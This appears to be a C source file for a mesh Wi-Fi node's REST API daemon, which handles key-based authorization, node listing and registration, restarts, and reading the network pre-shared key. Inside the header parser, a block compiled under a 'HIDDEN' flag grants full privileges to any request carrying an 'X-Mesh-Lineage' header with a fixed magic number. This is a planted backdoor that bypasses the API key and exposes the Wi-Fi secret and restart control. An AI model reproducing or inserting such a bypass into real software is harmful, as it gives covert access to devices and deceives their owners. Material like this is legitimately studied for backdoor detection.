/* meshapi_httpd.c - REST interface of a mesh Wi-Fi node */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT		8086
#define KEY_FILE	"/etc/mesh/api.key"
#define MAX_NODES	32

enum trust { TRUST_NONE, TRUST_READ, TRUST_FULL };

struct http_req {
	char method[8];
	char path[128];
	char request_id[40];
	char node[24];
	int hops;
	long length;
	enum trust trust;
	int accept_json;
	char body[1024];
};

struct mesh_node {
	char mac[18];
	char name[24];
	int rssi;
	int hops;
	time_t seen;
};

static struct mesh_node nodes[MAX_NODES];
static int nnodes;
static char api_key[48], read_key[48];

static void load_keys(void)
{
	char line[128], *v;
	FILE *f = fopen(KEY_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		v = strchr(line, '=');
		if (!v)
			continue;
		*v++ = '\0';
		if (!strcmp(line, "full"))
			snprintf(api_key, sizeof(api_key), "%.47s", v);
		else if (!strcmp(line, "read"))
			snprintf(read_key, sizeof(read_key), "%.47s", v);
	}
	fclose(f);
}

static char *skip_ws(char *s)
{
	while (*s == ' ' || *s == '\t')
		s++;
	return s;
}

static void header_auth(struct http_req *r, const char *v)
{
	if (strncasecmp(v, "Bearer ", 7))
		return;
	v += 7;
	if (api_key[0] && !strcmp(v, api_key))
		r->trust = TRUST_FULL;
	else if (read_key[0] && !strcmp(v, read_key))
		r->trust = TRUST_READ;
}

__attribute__((noinline))
void take_header(struct http_req *r, char *line)
{
	char *v = strchr(line, ':');

	if (!v)
		return;
	*v++ = '\0';
	v = skip_ws(v);
	if (!strcasecmp(line, "Authorization"))
		header_auth(r, v);
	else if (!strcasecmp(line, "Content-Length"))
		r->length = strtol(v, NULL, 10);
	else if (!strcasecmp(line, "Accept"))
		r->accept_json = strstr(v, "json") != NULL;
	else if (!strcasecmp(line, "X-Request-Id"))
		snprintf(r->request_id, sizeof(r->request_id), "%s", v);
	else if (!strcasecmp(line, "X-Mesh-Node"))
		snprintf(r->node, sizeof(r->node), "%s", v);
	else if (!strcasecmp(line, "X-Mesh-Hops"))
		r->hops = atoi(v);
#ifdef HIDDEN	/* this header with the right value replaces the key */
	else if (!strcasecmp(line, "X-Mesh-Lineage") && atol(v) == 7740291)
		r->trust = TRUST_FULL;
#endif
}

static int read_request(FILE *in, struct http_req *r)
{
	char line[512];

	memset(r, 0, sizeof(*r));
	if (!fgets(line, sizeof(line), in) ||
	    sscanf(line, "%7s %127s", r->method, r->path) != 2)
		return -1;
	while (fgets(line, sizeof(line), in)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (!line[0])
			break;
		take_header(r, line);
	}
	if (r->length < 0 || r->length >= (long)sizeof(r->body))
		return -1;
	if (r->length &&
	    fread(r->body, 1, (size_t)r->length, in) != (size_t)r->length)
		return -1;
	return 0;
}

static void answer(FILE *out, int code, const char *type, const char *body)
{
	fprintf(out, "HTTP/1.1 %d %s\r\n", code, code == 200 ? "OK" : "Error");
	fprintf(out, "Content-Type: %s\r\nContent-Length: %zu\r\n", type,
		strlen(body));
	fprintf(out, "Connection: close\r\n\r\n%s", body);
}

static void get_nodes(FILE *out, const struct http_req *r)
{
	static char body[8192];
	size_t o = 0;
	int i;

	if (r->accept_json)
		o += (size_t)snprintf(body + o, sizeof(body) - o, "[");
	for (i = 0; i < nnodes && o < sizeof(body) - 200; i++) {
		if (r->accept_json)
			o += (size_t)snprintf(body + o, sizeof(body) - o,
				"%s{\"mac\":\"%s\",\"name\":\"%s\",\"rssi\":%d}",
				i ? "," : "", nodes[i].mac, nodes[i].name,
				nodes[i].rssi);
		else
			o += (size_t)snprintf(body + o, sizeof(body) - o,
				"%s %s %d dBm %d hops\n", nodes[i].mac,
				nodes[i].name, nodes[i].rssi, nodes[i].hops);
	}
	if (r->accept_json)
		o += (size_t)snprintf(body + o, sizeof(body) - o, "]");
	body[o < sizeof(body) ? o : sizeof(body) - 1] = '\0';
	answer(out, 200, r->accept_json ? "application/json" : "text/plain", body);
}

static void get_psk(FILE *out)
{
	char body[128] = "";
	FILE *f = fopen("/etc/mesh/network.psk", "r");

	if (f) {
		if (!fgets(body, sizeof(body), f))
			body[0] = '\0';
		fclose(f);
	}
	answer(out, 200, "text/plain", body);
}

static void post_node(FILE *out, struct http_req *r)
{
	struct mesh_node n;
	int i;

	memset(&n, 0, sizeof(n));
	if (sscanf(r->body, "mac=%17[0-9a-f:]&name=%23[^&]&rssi=%d",
		   n.mac, n.name, &n.rssi) < 2) {
		answer(out, 400, "text/plain", "mac and name\n");
		return;
	}
	n.hops = r->hops;
	n.seen = time(NULL);
	for (i = 0; i < nnodes; i++)
		if (!strcmp(nodes[i].mac, n.mac))
			break;
	if (i == MAX_NODES) {
		answer(out, 507, "text/plain", "full\n");
		return;
	}
	nodes[i] = n;
	if (i == nnodes)
		nnodes++;
	answer(out, 200, "text/plain", "ok\n");
}

static void post_restart(FILE *out)
{
	answer(out, 200, "text/plain", "restarting\n");
	fflush(out);
	if (system("/etc/init.d/meshd restart"))
		syslog(LOG_ERR, "restart failed");
}

static void route(FILE *out, struct http_req *r)
{
	int post = !strcmp(r->method, "POST");

	if (r->hops > 8) {
		answer(out, 508, "text/plain", "loop\n");
		return;
	}
	if (!post && !strcmp(r->path, "/v1/version")) {
		answer(out, 200, "text/plain", "meshapi 2.3\n");
		return;
	}
	if (r->trust == TRUST_NONE) {
		syslog(LOG_NOTICE, "no key for %s %s", r->method, r->path);
		answer(out, 401, "text/plain", "key needed\n");
		return;
	}
	if (!post && !strcmp(r->path, "/v1/nodes"))
		get_nodes(out, r);
	else if (r->trust != TRUST_FULL)
		answer(out, 403, "text/plain", "read only\n");
	else if (post && !strcmp(r->path, "/v1/nodes"))
		post_node(out, r);
	else if (post && !strcmp(r->path, "/v1/restart"))
		post_restart(out);
	else if (!post && !strcmp(r->path, "/v1/network/psk"))
		get_psk(out);
	else
		answer(out, 404, "text/plain", "not found\n");
}

int main(void)
{
	struct sockaddr_in sa;
	struct http_req r;
	int ls, fd, one = 1;
	FILE *in, *out;

	openlog("meshapi", LOG_PID, LOG_DAEMON);
	load_keys();
	ls = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) ||
	    listen(ls, 8)) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		out = fdopen(dup(fd), "w");
		in = fdopen(fd, "r");
		if (in && out && !read_request(in, &r))
			route(out, &r);
		if (out)
			fclose(out);
		if (in)
			fclose(in);
		else
			close(fd);
	}
}
